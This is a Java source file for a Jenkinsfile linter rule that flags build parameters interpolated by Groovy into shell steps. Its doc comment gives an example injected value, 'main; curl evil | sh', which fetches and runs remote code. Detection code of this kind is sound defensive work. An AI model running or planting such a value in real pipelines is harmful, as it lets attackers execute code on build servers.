package org.runbook.coauthor.validate.jenkins.rules;

import java.util.Map;
import org.runbook.coauthor.validate.Severity;
import org.runbook.coauthor.validate.jenkins.model.Call;
import org.runbook.coauthor.validate.jenkins.model.Jenkinsfile;
import org.runbook.coauthor.validate.jenkins.model.Value;

/**
 * JK105: a build parameter is interpolated by Groovy into {@code sh}, {@code bat} or
 * {@code powershell} ({@code sh "deploy ${params.BRANCH}"}). Whoever starts the build chooses the
 * text, and {@code main; curl evil | sh} runs as shell code. {@code booleanParam} and {@code choice}
 * parameters are not reported: Jenkins only accepts their listed values.
 */
public final class ParameterInjectionRule extends JenkinsRule {
    @Override
    public String id() {
        return "JK105";
    }

    @Override
    public String title() {
        return "a build parameter is interpolated by Groovy into a shell step";
    }

    @Override
    public Severity defaultSeverity() {
        return Severity.ERROR;
    }

    @Override
    protected void check(Jenkinsfile jenkinsfile) {
        Map<String, Parameters.Parameter> defined = Parameters.of(jenkinsfile);
        for (Call c : jenkinsfile.calls()) {
            if (!c.isStep()) {
                continue;
            }
            c.script().filter(v -> v.kind() == Value.Kind.GSTRING).ifPresent(v -> {
                int n = 0;
                for (Value.Part p : v.parts()) {
                    String name = param(p);
                    if (name != null && !fixed(defined.get(name))) {
                        reportAtInterpolation(
                                v,
                                n,
                                "\"" + c.name() + "\" interpolates parameter \"" + name + "\" with Groovy (\"${"
                                        + p.text() + "}\"); whoever starts the build can run shell code through it",
                                "pass it through the environment and quote it: " + c.name() + " 'deploy \"$" + name
                                        + "\"' (parameters are environment variables), or validate it first");
                    }
                    n += p.interpolated() ? 1 : 0;
                }
            });
        }
    }

    private static String param(Value.Part p) {
        if (!p.interpolated()) {
            return null;
        }
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("^params(?:\\.|\\[')([A-Za-z_][A-Za-z0-9_]*)")
                .matcher(p.text());
        return m.find() ? m.group(1) : null;
    }

    private static boolean fixed(Parameters.Parameter p) {
        return p != null && (p.type().equals("booleanParam") || p.type().equals("choice"));
    }
}
